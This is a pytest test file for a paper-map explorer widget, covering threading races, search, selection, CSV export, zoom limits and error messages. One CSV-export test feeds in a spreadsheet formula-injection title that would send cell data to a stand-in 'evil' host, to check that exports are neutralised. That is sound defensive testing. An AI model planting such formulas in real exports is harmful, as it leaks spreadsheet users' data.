"""Changes while the explorer works: the last request is applied; messages are shown."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import numpy as np
import pandas as pd
import pytest

pytest.importorskip("plotly")
pytest.importorskip("ipywidgets")

# Private modules: no public function exposes the steps tested here by themselves.
from landscape.errors import InputError
from landscape.widgets import MapExplorer
from landscape.widgets import _explorer_tasks as work
from landscape.widgets._colours import colouring_of
from landscape.widgets._saving import sentences_of
from landscape.widgets._view import View


@contextmanager
def held_up(monkeypatch: pytest.MonkeyPatch, owner: Any, name: str) -> Iterator[Callable[[], None]]:
    """Block calls of a function until the context exits."""
    begun, go_on = threading.Event(), threading.Event()
    real = owner[name] if isinstance(owner, dict) else getattr(owner, name)

    def waiting(*args: Any, **named: Any) -> Any:
        begun.set()
        assert go_on.wait(60)
        return real(*args, **named)

    if isinstance(owner, dict):
        monkeypatch.setitem(owner, name, waiting)
    else:
        monkeypatch.setattr(owner, name, waiting)

    def until_begun() -> None:
        assert begun.wait(60)

    try:
        yield until_begun
    finally:
        go_on.set()


def again(explorer: MapExplorer) -> MapExplorer:
    names = {"MapExplorer": MapExplorer, "atlas": explorer.atlas}
    made: MapExplorer = eval(explorer.code, names)  # noqa: S307 - our own line
    assert made.wait(60)
    return made


def concept_of(explorer: MapExplorer) -> str:
    ids = explorer.atlas.uat["concept_id"].value_counts()
    return str(explorer.atlas.thesaurus.concepts[ids.index[0]].label)


def test_reviews_that_are_unticked_while_they_are_read_stay_away(explorer, monkeypatch):
    box = explorer._controls.layers["reviews"]
    with held_up(monkeypatch, work, "read_overlay") as until_begun:
        box.value = True
        until_begun()
        box.value = False
    assert explorer.wait(60)
    assert explorer.layers == ("names", "papers")
    assert "reviews" not in explorer._state.overlays
    assert not box.value


def test_a_search_that_is_cleared_finds_nothing(explorer, monkeypatch):
    with held_up(monkeypatch, work, "find_papers") as until_begun:
        explorer._controls.query.value = "dust"
        until_begun()
        explorer._controls.clear_search.click()
        assert explorer._working.layout.display == "none"
    assert explorer.wait(60)
    assert explorer.results is None
    assert explorer.code == "MapExplorer(atlas)"


def test_a_concept_that_is_emptied_while_it_is_read_stays_away(explorer, monkeypatch):
    concept = concept_of(explorer)
    with held_up(monkeypatch, work.OVERLAYS, "concept") as until_begun:
        explorer._controls.concept.value = concept
        until_begun()
        explorer._controls.concept.value = ""
    assert explorer.wait(60)
    assert explorer.concept is None
    assert explorer._controls.concept.value == ""
    assert "concept" not in explorer._state.overlays


def test_a_filter_that_is_cleared_selects_nothing(explorer, monkeypatch):
    with held_up(monkeypatch, explorer.atlas.engine, "select") as until_begun:
        explorer._controls.filter.value = "2010.."
        until_begun()
        explorer._controls.clear_selection.click()
    assert explorer.wait(60)
    assert len(explorer.rows) == 0


def test_a_filter_gives_way_to_what_was_selected_after_it(explorer, monkeypatch):
    with held_up(monkeypatch, explorer.atlas.engine, "select") as until_begun:
        explorer._controls.filter.value = "2010.."
        until_begun()
        explorer.select([1, 2])
    assert explorer.wait(60)
    assert explorer.rows.tolist() == [1, 2]


def test_years_chosen_during_a_search_hold_for_it(explorer, monkeypatch):
    with held_up(monkeypatch, work, "find_papers") as until_begun:
        explorer.search("dust", k=10)
        until_begun()
        explorer.time = (2010, 2020)
    assert explorer.wait(60)
    years = explorer._data.years[explorer.results.rows]
    assert ((years >= 2010) & (years <= 2020)).all()
    assert again(explorer).results.rows.tolist() == explorer.results.rows.tolist()


@pytest.mark.parametrize("what", ["files", "comparison", "answer"])
def test_what_was_made_of_another_selection_is_not_shown(explorer, monkeypatch, what):
    controls = explorer._controls
    name, start = {
        "files": ("papers_as_csv", controls.export.click),
        "comparison": ("compare_with_rest", controls.compare.click),
        "answer": ("ask_papers", lambda: explorer._ask_selection("How does dust cool?")),
    }[what]
    explorer.select("2010..")
    asked = explorer.rows
    real, given = getattr(work, name), []

    def made(atlas: Any, rows: Any, *more: Any) -> Any:
        given.append(rows)
        return real(atlas, rows, *more)

    monkeypatch.setattr(work, name, made)
    with held_up(monkeypatch, work, name) as until_begun:
        start()
        until_begun()
        explorer.select("..2005")
    assert explorer.wait(60)
    assert given[0] is asked
    assert explorer.status == ""
    assert controls.links.value == controls.outcome.value == ""


def test_a_tick_is_heard_while_another_thread_sets_the_controls(explorer):
    setting, ticked = threading.Event(), threading.Event()

    def set_controls() -> None:
        with explorer._setting():
            setting.set()
            ticked.wait(0.5)  # what the tick starts waits for the end of this

    thread = threading.Thread(target=set_controls)
    thread.start()
    assert setting.wait(60)
    explorer._controls.dark.value = True
    ticked.set()
    thread.join()
    assert explorer.theme == "dark"


def test_a_selection_as_csv_holds_nothing_but_the_table(explorer):
    import dataclasses

    title = 'x,=HYPERLINK("http://evil/?"&B2;"click"),y'
    manifest = dataclasses.replace(explorer.atlas.manifest, title=title)
    atlas = dataclasses.replace(explorer.atlas, manifest=manifest)
    written = work.papers_as_csv(atlas, np.arange(3))
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(written)) for cell in row)
    table = pd.read_csv(io.StringIO(written))
    assert len(table) == 3
    assert table.columns[:2].tolist() == ["paper_id", "title"]
    explorer.select([1, 2, 3])
    explorer._controls.export.click()
    assert explorer.wait(60)
    assert "3 papers selected of" in explorer._controls.links.value


def test_the_code_repeats_an_outline_of_other_years(explorer):
    x0, y0, x1, y1 = View(explorer.view).zoomed(2).box
    explorer._select_outline([x0, x1, x1, x0], [y0, y0, y1, y1])
    n = len(explorer.rows)
    assert 0 < n <= 300
    explorer.time = (2010, 2020)
    assert explorer.wait(60)
    assert again(explorer).rows.tolist() == explorer.rows.tolist()
    explorer.time = None
    assert explorer.wait(60)
    assert "outline=" in explorer.code
    explorer.select(np.arange(350))
    assert "350 papers selected" in explorer.code
    assert len(again(explorer).rows) == 0


def test_the_code_repeats_that_what_was_found_is_selected(explorer):
    explorer.search("dust", k=10)
    assert explorer.wait(60)
    explorer._controls.select_found.click()
    assert explorer.wait(60)
    assert len(explorer.rows) == 10
    assert again(explorer).rows.tolist() == explorer.rows.tolist()


def test_numbers_are_of_what_is_drawn(explorer):
    explorer.facility = "HST"
    explorer.layers = ("names", "papers", "reviews")
    assert explorer.wait(60)
    first, _ = explorer._data.period
    facility = explorer._state.overlays["facility"][1]
    alone = int(np.sort(explorer._data.years[facility])[0])
    explorer.time = (first, alone)
    explorer.select(f"{alone + 1}..")
    assert explorer.wait(60)
    n_shown = len(explorer._data.of_time(facility, explorer.time))
    assert n_shown < 3
    told = " ".join(sentences_of(explorer._drawn, explorer._data))
    legend = explorer._controls.legend.value
    of = f"{n_shown} paper{'' if n_shown == 1 else 's'} of these years, of {len(facility)}"
    assert f"No lines, for too few papers: HST, {of}." in told
    assert f"HST, no lines ({of})" in legend
    assert f"Selected: 0 papers of these years, of {len(explorer.rows):,}." in told
    assert f"{len(explorer.rows):,} selected, 0 of these years" in legend
    n_reviews = len(explorer._drawn.marks["reviews"])
    assert f"Squares: {n_reviews} review" in told
    explorer.time = None
    assert explorer.wait(60)
    told = " ".join(sentences_of(explorer._drawn, explorer._data))
    assert f"50% and 80% of {len(facility)} papers: HST." in told
    assert f"Selected: {len(explorer.rows):,} papers." in told


def test_the_mean_of_logarithms_is_called_what_it_is(explorer):
    explorer.colour_by = "citations"
    assert explorer.wait(60)
    assert colouring_of(explorer.atlas, "citations").logarithmic
    assert "geometric mean" in " ".join(sentences_of(explorer._drawn, explorer._data))


def test_the_note_of_a_search_follows_the_view(explorer):
    explorer.search("dust", k=100)
    explorer.zoom(6)
    assert explorer.wait(60)
    note = explorer._controls.found_note
    assert "The first 50 are listed." in note.value
    assert "outside this view" in note.value
    explorer._controls.zoom_found.click()
    assert explorer.wait(60)
    assert "outside this view" not in note.value
    explorer.clear()
    assert explorer.wait(60)
    assert "listed here" in note.value


def test_a_zoom_has_its_bounds(explorer):
    for _ in range(30):
        explorer._controls.zoom_in.click()
    assert explorer._data.zoom(View(explorer.view)) == pytest.approx(2e4)
    before = explorer.view
    for factor in (0, -1, float("nan"), float("inf"), "much"):
        with pytest.raises(InputError, match=r"The zoom is .*; give a number above 0"):
            explorer.zoom(factor)
    assert explorer.view == before
    explorer.zoom(1e-300)
    assert np.isfinite(explorer.view).all()
    assert explorer.wait(60)
    assert "failed" not in explorer.status


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ({"outline": [1, 2, 3]}, r"The outline is \[1, 2, 3\]; give its corners"),
        ({"outline": [("a", 1)]}, "give its corners"),
        ({"layers": 5}, "The layers are 5; give a list"),
        ({"concept": 5}, "The concept is 5; give its name"),
        ({"facility": 5}, "The facility is 5; give its name"),
    ],
)
def test_what_cannot_be_is_one_sentence(explorer, given, said):
    with pytest.raises(InputError, match=said):
        MapExplorer(explorer.atlas, **given)


def test_a_search_for_a_number_is_one_sentence(explorer):
    explorer.search(5)
    assert explorer.wait(60)
    assert explorer.status == "The search is 5; write a question or some words."


def test_a_folder_is_no_atlas(explorer):
    with pytest.raises(InputError, match=r"needs an open atlas, not .*; open .* with ls.open"):
        MapExplorer(str(explorer.atlas.path))
